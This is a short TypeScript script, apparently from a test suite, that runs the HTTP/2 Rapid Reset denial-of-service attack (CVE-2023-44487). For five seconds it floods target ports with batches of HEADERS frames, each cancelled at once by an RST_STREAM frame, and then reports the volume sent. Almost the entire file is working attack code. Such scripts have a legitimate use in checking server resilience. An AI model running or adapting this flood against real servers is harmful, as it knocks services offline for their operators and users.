import { FLAG, FRAME, frame, headerBlock, keepSending, SESSION_HEADERS } from '../wire/http2-frames.ts';
import { given, report } from './given.ts';

/** Calls that are given up in the moment they are made (CVE-2023-44487). */
const { nodes } = given();
const block = headerBlock(SESSION_HEADERS);
const cancel = Buffer.from([0, 0, 0, 8]);
const sent = await keepSending({ port: nodes, forMs: 5_000 }, () => {
  let stream = -1;
  return () => {
    const calls = Array.from({ length: 50 }, () => {
      stream += 2;
      return Buffer.concat([
        frame(FRAME.headers, FLAG.endHeaders, stream, block),
        frame(FRAME.reset, 0, stream, cancel),
      ]);
    });
    return Buffer.concat(calls);
  };
});
report(sent);
